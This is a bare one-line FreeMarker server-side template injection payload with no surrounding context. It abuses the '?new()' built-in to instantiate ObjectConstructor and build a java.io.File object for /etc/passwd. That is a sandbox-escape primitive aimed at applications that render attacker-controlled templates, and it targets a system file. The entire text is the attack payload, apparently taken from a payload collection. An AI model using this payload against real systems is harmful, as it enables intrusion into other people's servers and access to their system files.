<#assign oc = "freemarker.template.utility.ObjectConstructor"?new()>${oc("java.io.File", "/etc/passwd")}
